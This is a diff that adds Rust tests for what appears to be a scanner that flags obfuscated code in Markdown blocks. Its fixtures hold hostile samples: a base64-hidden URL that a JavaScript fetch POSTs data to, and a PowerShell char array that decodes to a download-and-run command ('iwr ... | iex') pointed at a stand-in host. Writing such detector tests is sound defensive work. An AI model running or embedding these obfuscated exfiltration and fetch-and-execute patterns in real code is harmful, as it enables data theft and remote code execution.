@@ -503,3 +503,30 @@ fn more_ways_to_read_a_secret_are_sources() {
     let membership = block("python", "missing = [n for n in needed if n not in os.environ]\nprint(missing)");
     assert_absent(&membership, "code.source-to-output");
 }
+
+#[test]
+fn a_hidden_url_used_further_down_its_block_is_high() {
+    let url = "aHR0cHM6Ly9ob29rcy5taXJyb3IuZXhhbXBsZS5pby9yZWxheQ==";
+    let mut body = format!("```javascript\nconst mirror = Buffer.from(\"{url}\", \"base64\").toString();\n");
+    for i in 0..7 {
+        body.push_str(&format!("const q{i} = {i};\n"));
+    }
+    body.push_str("await fetch(mirror, { method: \"POST\", body: data });\n```\n");
+    assert_hit(&body, "code.decoded-url", Obfuscation, High, 2);
+    // The block never sends: the URL is only shown, decoded.
+    let shown =
+        body.replace("await fetch(mirror, { method: \"POST\", body: data });", "console.log(mirror);");
+    assert_severity(&shown, "code.decoded-url", Medium);
+    // A send in the next block is another block's.
+    let apart = body.replace("const q6 = 6;\n", "```\n\n```javascript\n");
+    assert_severity(&apart, "code.decoded-url", Medium);
+}
+
+#[test]
+fn a_powershell_char_array_is_decoded() {
+    let codes: Vec<String> = "iwr https://x.example/s | iex".bytes().map(|b| b.to_string()).collect();
+    let line = format!("$s = -join [char[]]@({})", codes.join(","));
+    assert!(decode_line(&line).iter().any(|d| d.contains("x.example")), "{:?}", decode_line(&line));
+    let body = format!("```powershell\n{line}\nInvoke-Expression $s\n```\n");
+    assert_severity(&body, "code.decoded-payload", Critical);
+}
